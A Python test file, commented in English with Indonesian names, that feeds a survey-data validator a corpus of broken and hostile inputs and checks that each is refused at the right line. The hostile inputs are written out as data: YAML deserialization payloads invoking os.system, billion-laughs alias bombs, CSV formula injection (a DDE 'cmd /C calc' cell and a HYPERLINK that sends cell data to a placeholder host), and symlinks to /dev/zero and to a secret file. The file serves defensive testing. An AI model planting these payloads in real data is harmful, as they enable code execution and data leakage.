"""A corpus of hostile and broken data files: every one is refused, located, and cheap.

Each case starts from the valid fixture folder (conftest ``data``) and replaces or adds
one file of the data contract with bytes generated here (no binary blobs in git). For
every case:

* ``periksa`` returns no tables and reports an *error* at the exact ``path:line[:column]``
  (no line only where the problem has none: a link, a FIFO, a file over the size limit),
  with the expected words in its message;
* ``skm check`` exits 1 and prints that location, with no traceback and no runaway line;
* it stays bounded: under 200 MB of Python allocations, and it ends (a generous hang
  guard, not a speed goal: speed is measured in ``bench/``).

A few cases per file kind also run ``skm build`` on a project whose ``site/`` was built
from the valid data: the build fails and ``site/`` stays byte-identical. One case goes
through ``skm build`` in a subprocess, end to end.
"""

from __future__ import annotations

import gzip
import os
import shutil
import struct
import subprocess
import sys
import time
import tracemalloc
import zlib
from pathlib import Path
from typing import NamedTuple

import pytest
from bantuan import bangun, salin_proyek, sidik
from conftest import CSV_DUKCAPIL, JUDUL, KABUPATEN, OPD, PERIODE, tulis

from skm_build import cli
from skm_build.kontrak.masalah import GALAT
from skm_build.kontrak.muat import periksa

CSV = "survei/2025-s1/dukcapil.csv"
LAPORAN = "survei/2025-s1/dukcapil.yaml"
JATEN = "survei/2025-s1/kecamatan-jaten.yaml"
DETIK_MAKS = 30.0  # a hang guard on a loaded CI machine; typical is well under 1 s
MEMORI_MAKS = 200 * 1024 * 1024
BARIS_CETAK_MAKS = 500  # no printed problem may carry a megabyte of data with it


# --- building blocks -------------------------------------------------------------------


class Tautan(NamedTuple):
    """A symbolic link to ``tujuan`` (absolute, or relative to the data folder's parent)."""

    tujuan: str


class Fifo(NamedTuple):
    """A named pipe: reading it would block forever."""


class Kasus(NamedTuple):
    jalur: str  # relative to the data folder
    isi: bytes | Tautan | Fifo
    lokasi: str  # path:line[:column] as printed
    pesan: str  # a fragment of that problem's message


BARIS = CSV_DUKCAPIL.splitlines()  # header (line 1) and four respondents (lines 2-5)
BARIS_3 = BARIS[2]  # 2025-02-03,P,27,S1,PNS,4,3,3,4,3,4,4,3,2


def csv_(*baris: str) -> bytes:
    return ("\n".join(baris) + "\n").encode("utf-8")


def csv_baris_3(baris: str) -> bytes:
    """The fixture CSV with line 3 replaced."""
    return csv_(*BARIS[:2], baris, *BARIS[3:])


def u2_baris_3(nilai: str) -> bytes:
    return csv_baris_3(BARIS_3.replace("PNS,4,3,", f"PNS,4,{nilai},"))


def usia_baris_3(nilai: str) -> bytes:
    return csv_baris_3(BARIS_3.replace(",27,", f",{nilai},"))


def csv_teks(baris: int, layanan: str = "KTP-el", saran: str = "Baik") -> bytes:
    """The fixture CSV with layanan and saran columns; line ``baris`` gets the given texts."""
    isi = [BARIS[0] + ",layanan,saran"]
    for nomor, b in enumerate(BARIS[1:], start=2):
        if nomor == baris:
            isi.append(f"{b},{layanan},{saran}")
        else:
            isi.append(f"{b},KTP-el,Baik")
    return csv_(*isi)


def campuran() -> bytes:
    """UTF-8 up to line 4 (with an emoji on line 3), then a line saved as Windows-1252."""
    utf8 = csv_teks(3, saran="Ramah 👍").splitlines(keepends=True)[:4]
    return b"".join(utf8) + f"{BARIS[4]},KTP-el,Bagus’\n".encode("cp1252")


def png() -> bytes:
    """A real 1×1 PNG: signature, IHDR, IDAT, IEND."""
    def potong(jenis: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + jenis + data
                + struct.pack(">I", zlib.crc32(jenis + data)))
    return (b"\x89PNG\r\n\x1a\n" + potong(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
            + potong(b"IDAT", zlib.compress(b"\x00\x00")) + potong(b"IEND", b""))


def tawa(indentasi: str) -> str:
    """The "billion laughs": nine levels of nine aliases, 9**9 strings if expanded."""
    baris = [f"{indentasi}lol0: &a0 [" + ", ".join(['"lol"'] * 9) + "]"]
    baris += [f"{indentasi}lol{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]"
              for i in range(1, 9)]
    return "\n".join(baris) + "\n"


def blok_bersarang(indentasi: int, tingkat: int) -> str:
    """``tingkat`` nested block mappings, one per line, starting at ``indentasi`` spaces."""
    return "".join(" " * (indentasi + 2 * i) + f"k{i}:\n" for i in range(tingkat)) \
        + " " * (indentasi + 2 * tingkat) + "nilai\n"


def jawaban(**ganti: str) -> str:
    """A tally-only unit report: line 1 diterima, line 2 'jawaban:', u1..u9 on lines 3-11."""
    baris = {f"u{i}": "[0, 2, 50, 48]" for i in range(1, 10)}
    baris.update(ganti)
    return "diterima: 2025-07-15\njawaban:\n" + "".join(f"  {k}: {v}\n" for k, v in baris.items())


LAPORAN_RTL = """\
diterima: 2025-07-10
populasi: 4
tindak_lanjut:
  - unsur: u3
    kegiatan: {kegiatan}
    waktu: Triwulan III 2025
    penanggung_jawab: Kepala Bidang Pelayanan
    status: {status}
"""


def rtl(kegiatan: str = "Antrean daring", status: str = "berjalan") -> bytes:
    """A unit report whose follow-up item has kegiatan on line 5 and status on line 8."""
    return LAPORAN_RTL.format(kegiatan=kegiatan, status=status).encode("utf-8")


def u(teks: str) -> bytes:
    return teks.encode("utf-8")


HYPERLINK = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
DDE = "-2+3+cmd|' /C calc'!A0"

# --- the corpus ------------------------------------------------------------------------

_C = f"data/{CSV}"
_L = f"data/{LAPORAN}"
_J = f"data/{JATEN}"

KORPUS: dict[str, Kasus] = {
    # --- respondent CSV -------------------------------------------------------------
    "csv-utf16-bom": Kasus(CSV, CSV_DUKCAPIL.encode("utf-16"), f"{_C}:1", "byte 0xff"),
    "csv-utf16-tanpa-bom": Kasus(CSV, CSV_DUKCAPIL.encode("utf-16-le"), f"{_C}:1",
                                 "karakter NUL"),
    "csv-latin1": Kasus(CSV, csv_teks(4, saran="Sangat baik ¡gracias!").decode()
                        .encode("latin-1"), f"{_C}:4", "byte 0xa1"),
    "csv-ff-tengah": Kasus(CSV, csv_(*BARIS[:3]) + BARIS[3][:20].encode() + b"\xff"
                           + BARIS[3][20:].encode() + b"\n" + csv_(*BARIS[4:]),
                           f"{_C}:4", "byte 0xff"),
    "csv-campuran": Kasus(CSV, campuran(), f"{_C}:5", "byte 0x92"),
    "csv-jawaban-1e308": Kasus(CSV, u2_baris_3("1e308"), f"{_C}:3:u2", "tidak sah"),
    "csv-jawaban-inf": Kasus(CSV, u2_baris_3("inf"), f"{_C}:3:u2", "jawaban 'inf' tidak sah"),
    "csv-jawaban-nan": Kasus(CSV, u2_baris_3("NaN"), f"{_C}:3:u2", "jawaban 'NaN' tidak sah"),
    "csv-jawaban-angka-lebar": Kasus(CSV, u2_baris_3("３"), f"{_C}:3:u2", "'３' tidak sah"),
    "csv-usia-99999999999": Kasus(CSV, usia_baris_3("99999999999"), f"{_C}:3:usia",
                                  "usia '99999999999' tidak sah"),
    "csv-usia-10-pangkat-30": Kasus(CSV, usia_baris_3(str(10**30)), f"{_C}:3:usia",
                                    "tidak sah: bilangan bulat 15–100"),
    "csv-baris-2mb": Kasus(CSV, csv_baris_3("x" * 2_000_000), f"{_C}:3:tanggal",
                           "bukan tanggal"),
    # (a saran column is refused as a whole since issue 12: the cell checks run on layanan)
    "csv-sel-saran-2mb": Kasus(CSV, csv_teks(3, layanan="a" * 2_000_000 + " budi@contoh.co.id"),
                               f"{_C}:3:layanan", "data pribadi (alamat e-mail)"),
    "csv-kosong": Kasus(CSV, b"", f"{_C}:1", "berkas kosong"),
    "csv-spasi-saja": Kasus(CSV, b"\n  \n\t\n", f"{_C}:1", "berkas kosong"),
    "csv-png": Kasus(CSV, png(), f"{_C}:1", "byte 0x89"),
    "csv-nul": Kasus(CSV, csv_baris_3(BARIS_3.replace("PNS", "PN\0S")), f"{_C}:3",
                     "karakter NUL"),
    "csv-gzip": Kasus(CSV, gzip.compress(CSV_DUKCAPIL.encode(), mtime=0), f"{_C}:1",
                      "byte 0x8b"),
    "csv-judul-10000-kolom": Kasus(CSV, csv_(JUDUL + "".join(f",k{i}" for i in range(9986)),
                                             *BARIS[1:]), f"{_C}:1", "10000 kolom"),
    "csv-baris-10000-kolom": Kasus(CSV, csv_baris_3(BARIS_3 + ",1" * 9986), f"{_C}:3",
                                   "jumlah kolom tidak sama"),
    "csv-rumus-hyperlink": Kasus(CSV, csv_teks(3, layanan='"' + HYPERLINK.replace('"', '""')
                                               + '"'), f"{_C}:3:layanan", "rumus"),
    "csv-rumus-dde": Kasus(CSV, csv_teks(4, layanan=DDE), f"{_C}:4:layanan", "rumus"),
    "csv-kutip-tak-tertutup": Kasus(CSV, csv_baris_3(BARIS_3.replace("PNS", '"PNS')),
                                    f"{_C}:3", "tidak pernah ditutup"),
    "csv-bom-ganda": Kasus(CSV, "\ufeff\ufeff".encode() + csv_(
        "u1,u2,u3,u4,u5,u6,u7,u8,u9", "3,3,2,4,3,3,4,3,3"), f"{_C}:1:u1", "kolom u1 tidak ada"),
    "csv-tautan-dev-zero": Kasus(CSV, Tautan("/dev/zero"), _C, "tautan simbolik"),
    "csv-fifo": Kasus(CSV, Fifo(), _C, "bukan berkas biasa"),
    # --- the unit's report (YAML) -----------------------------------------------------
    "laporan-utf16-bom": Kasus(LAPORAN, "diterima: 2025-07-10\npopulasi: 4\n".encode("utf-16"),
                               f"{_L}:1", "byte 0xff"),
    "laporan-populasi-10-pangkat-30": Kasus(LAPORAN, u(f"diterima: 2025-07-10\npopulasi: "
                                                       f"{10**30}\n"),
                                            f"{_L}:2:populasi", "harus 1–1000000000"),
    "laporan-populasi-1e308": Kasus(LAPORAN, u("diterima: 2025-07-10\npopulasi: 1.0e+308\n"),
                                    f"{_L}:2:populasi", "harus bilangan bulat"),
    "laporan-tag-python": Kasus(LAPORAN, u('diterima: !!python/object/apply:os.system '
                                           '["echo diretas"]\n'), f"{_L}:1:11",
                                "tag YAML '!!python/object/apply:os.system'"),
    "laporan-tag-python-peta": Kasus(LAPORAN, u("populasi: 4\ntindak_lanjut: !!python/object/"
                                                "new:os.system\n  args: [id]\n"),
                                     f"{_L}:2:16", "tag YAML"),
    "laporan-bersarang-5000": Kasus(LAPORAN, u("diterima: 2025-07-10\ntindak_lanjut: "
                                               + "[" * 5000 + "]" * 5000 + "\n"),
                                    f"{_L}:2:1015", "sintaks YAML salah"),
    "laporan-kunci-ganda": Kasus(LAPORAN, u("diterima: 2025-07-10\npopulasi: 4\npopulasi: 4000\n"),
                                 f"{_L}:3", "kunci 'populasi' ditulis dua kali"),
    "laporan-dua-dokumen": Kasus(LAPORAN, u("diterima: 2025-07-10\n---\npopulasi: 4\n"),
                                 f"{_L}:2:1", "lebih dari satu dokumen"),
    "laporan-escape-kendali": Kasus(LAPORAN, rtl(kegiatan='"Antrean \\e[2J daring"'),
                                    f"{_L}:5:15", "karakter kendali \\x1b"),
    "laporan-kendali-mentah": Kasus(LAPORAN, rtl(kegiatan="Antrean \x1b[2J daring"),
                                    f"{_L}:5:23", "karakter kendali"),
    "laporan-status-2mb": Kasus(LAPORAN, rtl(status="x" * 2_000_000), f"{_L}:8:status",
                                "'status' bernilai 'xxx"),
    "laporan-kegiatan-rumus": Kasus(LAPORAN, rtl(kegiatan="'" + HYPERLINK + "'"),
                                    f"{_L}:5:kegiatan", "rumus"),
    "laporan-200000-nilai": Kasus(LAPORAN, u("diterima: 2025-07-10\nx: ["
                                             + ",".join(["0"] * 200_000) + "]\n"),
                                  f"{_L}:2", "lebih dari 100000 nilai"),
    "laporan-nul": Kasus(LAPORAN, b"diterima: 2025-07-10\npopulasi: 4\x00\x00\n", f"{_L}:2",
                         "karakter NUL"),
    # --- jawaban: answer tallies without a CSV (u4 on line 6) ------------------------------
    "jawaban-1e308": Kasus(JATEN, u(jawaban(u4="[0, 2, 50, 1.0e+308]")), f"{_J}:6:u4",
                           "4 bilangan bulat tidak negatif"),
    "jawaban-10-pangkat-30": Kasus(JATEN, u(jawaban(u4=f"[0, 2, 50, {10**30}]")), f"{_J}:6:u4",
                                   "lebih dari 1000000000"),
    "jawaban-nan": Kasus(JATEN, u(jawaban(u4="[.nan, 2, 50, 48]")), f"{_J}:6:u4",
                         "4 bilangan bulat"),
    "jawaban-bool": Kasus(JATEN, u(jawaban(u4="[true, 2, 50, 48]")), f"{_J}:6:u4",
                          "4 bilangan bulat"),
    "jawaban-teks": Kasus(JATEN, u(jawaban(u4='"0, 2, 50, 48"')), f"{_J}:6:u4",
                          "4 bilangan bulat"),
    "jawaban-alias": Kasus(JATEN, u(jawaban(u1="&n [0, 2, 50, 48]", u2="*n")), f"{_J}:3",
                           "anchor/alias"),
    "jawaban-tag-set": Kasus(JATEN, u(jawaban(u4="!!set {0, 2}")), f"{_J}:6:7",
                             "tag YAML '!!set'"),
    "jawaban-unsur-ganda": Kasus(JATEN, u(jawaban().replace("  u5:", "  u4: [1, 1, 1, 1]\n  u5:")),
                                 f"{_J}:7", "kunci 'u4' ditulis dua kali"),
    # --- opd.yaml (item 2: id line 5, nama line 6) --------------------------------------
    "opd-latin1": Kasus("opd.yaml", OPD.replace("Kecamatan Jaten", "Kecamatan Jaten Café")
                        .encode("latin-1"), "data/opd.yaml:6", "byte 0xe9"),
    "opd-ff-tengah": Kasus("opd.yaml", u(OPD).replace(b"Jaten", b"Ja\xfften"), "data/opd.yaml:6",
                           "byte 0xff"),
    "opd-billion-laughs": Kasus("opd.yaml", u(OPD + tawa("  ")), "data/opd.yaml:8",
                                "anchor/alias"),
    "opd-tag-python": Kasus("opd.yaml", u("- !!python/object/apply:os.system\n  args: [id]\n"
                                          + OPD), "data/opd.yaml:1:3", "tag YAML"),
    "opd-kunci-ganda": Kasus("opd.yaml", u(OPD.replace("  jenis: dinas\n",
                                                       "  nama: Dinas Lain\n  jenis: dinas\n")),
                             "data/opd.yaml:3", "kunci 'nama' ditulis dua kali"),
    "opd-id-300-karakter": Kasus("opd.yaml", u(OPD.replace("id: kecamatan-jaten", "id: "
                                                           + "a" * 300)),
                                 "data/opd.yaml:5:id", "terlalu panjang (300 karakter"),
    "opd-nama-rumus": Kasus("opd.yaml", u(OPD.replace("nama: Kecamatan Jaten",
                                                      f"nama: '{HYPERLINK}'")),
                            "data/opd.yaml:6:nama", "rumus"),
    "opd-nama-nul-escape": Kasus("opd.yaml", u(OPD.replace("nama: Kecamatan Jaten",
                                                           'nama: "Kecamatan\\0Jaten"')),
                                 "data/opd.yaml:6:9", "karakter kendali \\x00"),
    "opd-nama-bidi": Kasus("opd.yaml", u(OPD.replace("nama: Kecamatan Jaten",
                                                     'nama: "Kecamatan \\u202enetaJ"')),
                           "data/opd.yaml:6:9", "karakter kendali \\u202e"),
    "opd-target-1e308": Kasus("opd.yaml", u(OPD.replace("target_ikm: 85", "target_ikm: 1.0e+308")),
                              "data/opd.yaml:4:target_ikm", "harus angka 25–100"),
    "opd-png": Kasus("opd.yaml", png(), "data/opd.yaml:1", "byte 0x89"),
    "opd-6mb": Kasus("opd.yaml", u(OPD + "# " + "x" * (6 * 1024 * 1024) + "\n"),
                     "data/opd.yaml", "berkas terlalu besar"),
    "opd-fifo": Kasus("opd.yaml", Fifo(), "data/opd.yaml", "bukan berkas biasa"),
    "opd-tautan-keluar": Kasus("opd.yaml", Tautan("rahasia.txt"), "data/opd.yaml",
                               "tautan simbolik"),
    # --- periode.yaml (item 2: id line 6, nama line 7, mulai line 8) ------------------------
    "periode-utf16": Kasus("periode.yaml", PERIODE.encode("utf-16"), "data/periode.yaml:1",
                           "byte 0xff"),
    "periode-gzip": Kasus("periode.yaml", gzip.compress(PERIODE.encode(), mtime=0),
                          "data/periode.yaml:1", "byte 0x8b"),
    "periode-kosong": Kasus("periode.yaml", b"", "data/periode.yaml:1", "harus berupa daftar"),
    "periode-gabungan": Kasus("periode.yaml", u(
        PERIODE.replace("- id: 2025-s1", "- &p\n  id: 2025-s1")
        .replace("- id: 2025-s2", "- <<: *p\n  id: 2025-s2")), "data/periode.yaml:7", "(<<)"),
    "periode-tag-lokal": Kasus("periode.yaml", u(PERIODE.replace("nama: Semester II 2025",
                                                                 "nama: !foo {x: 1}")),
                               "data/periode.yaml:7:9", "tag YAML '!foo'"),
    # root list, item, x → the mapping of line 30 would be the 21st level
    "periode-bersarang-blok": Kasus("periode.yaml", u(PERIODE + "  x:\n" + blok_bersarang(4, 40)),
                                    "data/periode.yaml:30:41", "lebih dari 20 tingkat"),
    "periode-nama-rumus": Kasus("periode.yaml", u(PERIODE.replace("nama: Semester II 2025",
                                                                  "nama: '@SUM(1+1)'")),
                                "data/periode.yaml:7:nama", "rumus"),
    # --- kabupaten.yaml (nama line 1, penyusun line 2) --------------------------------------
    "kabupaten-utf16": Kasus("kabupaten.yaml", KABUPATEN.encode("utf-16"),
                             "data/kabupaten.yaml:1", "byte 0xff"),
    "kabupaten-billion-laughs": Kasus("kabupaten.yaml", u(KABUPATEN + tawa("")),
                                      "data/kabupaten.yaml:6", "anchor/alias"),
    "kabupaten-tag-python": Kasus("kabupaten.yaml", u(KABUPATEN.replace(
        "nama: Kabupaten Uji", 'nama: !!python/object/apply:os.system ["echo diretas"]')),
        "data/kabupaten.yaml:1:7", "tag YAML"),
    "kabupaten-kunci-ganda": Kasus("kabupaten.yaml", u(KABUPATEN + "penyusun: Orang Lain\n"),
                                   "data/kabupaten.yaml:6", "kunci 'penyusun' ditulis dua kali"),
    # the root mapping and 19 flow lists: the 20th '[' (column 23) is one level too many
    "kabupaten-bersarang-alir": Kasus("kabupaten.yaml", u(KABUPATEN + "x: " + "[" * 100
                                                          + "]" * 100 + "\n"),
                                      "data/kabupaten.yaml:6:23", "lebih dari 20 tingkat"),
    "kabupaten-penyusun-dde": Kasus("kabupaten.yaml", u(KABUPATEN.replace(
        "penyusun: Bagian Organisasi", f'penyusun: "{DDE}"')),
        "data/kabupaten.yaml:2:penyusun", "rumus"),
    "kabupaten-surrogate": Kasus("kabupaten.yaml", u(KABUPATEN.replace(
        "nama: Kabupaten Uji", 'nama: "Kabupaten \\uD800"')), "data/kabupaten.yaml:1:20",
        "sintaks YAML salah"),
    "kabupaten-kosong": Kasus("kabupaten.yaml", b"", "data/kabupaten.yaml:1",
                              "pasangan 'kunci: nilai'"),
    "kabupaten-bom-di-teks": Kasus("kabupaten.yaml", u(KABUPATEN.replace(
        "Bagian Organisasi", "Bagian\ufeff Organisasi")), "data/kabupaten.yaml:2:11",
        "karakter kendali \\ufeff"),
}

JENIS = {"csv-": "CSV responden", "laporan-": "laporan unit (YAML)", "jawaban-": "jawaban",
         "opd-": "opd.yaml", "periode-": "periode.yaml", "kabupaten-": "kabupaten.yaml"}

# One or two per file kind: their failed build must leave site/ byte-identical.
SITUS_TETAP = ["csv-utf16-bom", "csv-baris-2mb", "laporan-bersarang-5000",
               "jawaban-10-pangkat-30", "opd-billion-laughs", "opd-fifo",
               "periode-tag-lokal", "kabupaten-tag-python"]
UJUNG_KE_UJUNG = "kabupaten-billion-laughs"
RAHASIA = "TOKEN-RAHASIA-123"


def pasang(folder: Path, kasus: Kasus) -> None:
    """Put the case's file into the data folder (replacing what was there)."""
    berkas = folder / kasus.jalur
    berkas.parent.mkdir(parents=True, exist_ok=True)
    if berkas.exists() or berkas.is_symlink():
        berkas.unlink()
    if isinstance(kasus.isi, Tautan):
        tujuan = Path(kasus.isi.tujuan)
        if not tujuan.is_absolute():  # a secret beside the data folder, outside it
            tujuan = folder.parent / tujuan
            tujuan.write_text(f"- id: {RAHASIA}\n", encoding="utf-8")
        berkas.symlink_to(tujuan)
    elif isinstance(kasus.isi, Fifo):
        os.mkfifo(berkas)
    else:
        tulis(folder, kasus.jalur, kasus.isi)


def tempat(pesan: str) -> str:
    return pesan.partition(": ")[0]


# --- the corpus itself ---------------------------------------------------------------------


def test_korpus_mencakup_setiap_jenis_berkas() -> None:
    per_jenis = {j: [n for n in KORPUS if n.startswith(a)] for a, j in JENIS.items()}
    assert sum(map(len, per_jenis.values())) == len(KORPUS) >= 40
    assert all(len(n) >= 5 for n in per_jenis.values()), {j: len(n) for j, n in per_jenis.items()}
    assert set(SITUS_TETAP) | {UJUNG_KE_UJUNG} <= set(KORPUS)


@pytest.mark.parametrize("nama", list(KORPUS))
def test_berkas_rusak_ditolak_di_tempatnya(data: Path, nama: str,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    kasus = KORPUS[nama]
    pasang(data, kasus)

    tracemalloc.start()  # slows Python down: the time is taken from skm check below
    try:
        hasil = periksa(data)
        _, puncak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    semua = "\n".join(str(m)[:300] for m in hasil.masalah.urut())
    assert hasil.data is None, semua
    di_sana = [m for m in hasil.masalah.semua if tempat(str(m)) == kasus.lokasi]
    assert di_sana, f"tidak ada masalah di {kasus.lokasi}; yang ada:\n{semua}"
    assert any(m.tingkat == GALAT and kasus.pesan in m.pesan for m in di_sana), semua
    assert puncak < MEMORI_MAKS, f"{puncak / 2**20:.0f} MB"

    capsys.readouterr()
    mulai = time.perf_counter()
    kode = cli.main(["check", "--data", str(data)])
    detik = time.perf_counter() - mulai
    keluaran = capsys.readouterr()
    assert kode == 1
    assert "Traceback" not in keluaran.out + keluaran.err
    assert f"{kasus.lokasi}: " in keluaran.err
    assert max(map(len, keluaran.err.splitlines())) <= BARIS_CETAK_MAKS
    assert RAHASIA not in keluaran.out + keluaran.err
    assert detik < DETIK_MAKS, f"{detik:.2f} s"


# --- a failed build leaves site/ as it was ----------------------------------------------------


def tulis_data_sah(folder: Path) -> None:
    tulis(folder, "kabupaten.yaml", KABUPATEN)
    tulis(folder, "opd.yaml", OPD)
    tulis(folder, "periode.yaml", PERIODE)
    tulis(folder, CSV, CSV_DUKCAPIL)
    tulis(folder, LAPORAN, "diterima: 2025-07-10\npopulasi: 4\n")


@pytest.fixture(scope="module")
def proyek_terbangun(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project built once from the valid fixture data; tests copy it."""
    akar = tmp_path_factory.mktemp("proyek-sah")
    salin_proyek(akar, dengan_data=False)
    tulis_data_sah(akar / "data")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("NO_MKDOCS_2_WARNING", "1")
        mp.setenv("SOURCE_DATE_EPOCH", "1767225600")
        assert bangun(akar) == 0
    assert (akar / "site" / "index.html").is_file()
    return akar


@pytest.fixture
def proyek(proyek_terbangun: Path, tmp_path: Path) -> Path:
    akar = tmp_path / "proyek"
    shutil.copytree(proyek_terbangun, akar, symlinks=True)
    return akar


@pytest.mark.parametrize("nama", SITUS_TETAP)
def test_build_gagal_membiarkan_situs_lama_utuh(proyek: Path, nama: str,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    sebelum = sidik(proyek / "site")
    pasang(proyek / "data", KORPUS[nama])
    capsys.readouterr()
    assert bangun(proyek) == 1
    keluaran = capsys.readouterr()
    assert "Traceback" not in keluaran.err
    assert f"{KORPUS[nama].lokasi}: " in keluaran.err
    assert sidik(proyek / "site") == sebelum
    sisa = [p.name for p in proyek.iterdir() if p.name.startswith("site.")]
    assert sisa == [], "temporary folders left behind"


def test_build_ujung_ke_ujung_di_subproses(proyek: Path) -> None:
    kasus = KORPUS[UJUNG_KE_UJUNG]
    sebelum = sidik(proyek / "site")
    pasang(proyek / "data", kasus)
    jalan = subprocess.run([sys.executable, "-m", "skm_build", "build"], cwd=proyek,
                           capture_output=True, text=True, timeout=60,
                           env={**os.environ, "NO_MKDOCS_2_WARNING": "1"})
    assert jalan.returncode == 1, jalan.stderr
    assert "Traceback" not in jalan.stdout + jalan.stderr
    assert f"{kasus.lokasi}: " in jalan.stderr
    assert "situs lama tetap seperti semula" in jalan.stderr
    assert sidik(proyek / "site") == sebelum

